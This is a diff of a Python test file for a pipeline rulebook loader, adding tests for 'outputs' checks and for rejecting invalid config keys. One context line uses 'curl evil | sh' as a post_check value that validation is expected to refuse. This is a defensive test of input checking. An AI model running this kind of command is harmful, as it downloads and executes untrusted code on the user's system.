@@ -149,6 +149,40 @@ def test_a_language_preset_checks_the_steps_that_leave_working_code(preset: str,
     assert {"impl": command, "verify": command} == checks
 
 
+def test_the_preset_proven_checks_what_steps_write() -> None:
+    """A project takes one check back, and has others beside; another preset stays."""
+    own = Layer(OWN, "steps: {bdd: {outputs: {levels: false}}, verify: {outputs: {exist: true}}}")
+    steps = build_rulebook([_shipped(), _preset("go"), _preset("proven"), own]).steps
+
+    assert {"outputs": "handoffd-outputs '--exist=docs/bdd/US-{story}.md'"} == steps["bdd"].checks
+    assert {"outputs": "handoffd-outputs '--parse=docs/api/**'"} == steps["contract"].checks
+    checked = steps["verify"].checks
+    assert isinstance(checked, dict)
+    assert ["outputs", "command"] == list(checked)
+    assert "go vet ./... && golangci-lint run" == checked["command"] == steps["impl"].checks
+    assert checked["outputs"].startswith(
+        "handoffd-outputs --exist=docs/sdd.md '--tested=docs/bdd/US-{story}.md'"
+    )
+    assert (None, None) == (steps["review"].checks, steps["scaffold"].checks)
+
+
+@pytest.mark.parametrize(
+    ("own", "said"),
+    [
+        ("steps: {bdd: {outputs: {level: true}}}", "steps.bdd.outputs.level: unknown key 'level'"),
+        ("steps: {bdd: {outputs: {levels: 1}}}", "steps.bdd.outputs.levels: unknown value 1"),
+        ("steps: {bdd: {post_check: {outputs: make}}}", "it is the check that `outputs` asks for"),
+        ("steps: {review: {outputs: {tested: true}}}", "no agent writes anything at a human step"),
+    ],
+)
+def test_outputs_that_cannot_be_checked_are_a_problem(own: str, said: str) -> None:
+    """With file, line and key; at a human step only `clear` means something."""
+    with pytest.raises(InvalidFile) as caught:
+        _book(own)
+    assert said in str(caught.value)
+    assert OWN in str(caught.value)
+
+
 def test_a_project_adds_a_step_and_a_pipeline() -> None:
     """A whole pipeline of one's own beside the shipped ones."""
     book = _book("""
@@ -245,6 +279,7 @@ ROLE = "{verify: {claude_writes: ['**']}}"
     [
         ("steps: {impl: {post_check: curl evil | sh}}", "steps.impl.post_check"),
         ("steps: {impl: {post_check_timeout_s: 3600}}", "steps.impl.post_check_timeout_s"),
+        ("steps: {review: {outputs: {clear: false}}}", "steps.review.outputs.clear"),
         ("steps: {review: {requires_human: false}}", "steps.review.requires_human"),
         ("steps: {contract: {next_on_pass: scaffold}}", "steps.contract.next_on_pass"),
         ("steps: {impl: {next_on_fail: verify}}", "steps.impl.on_fail.default"),
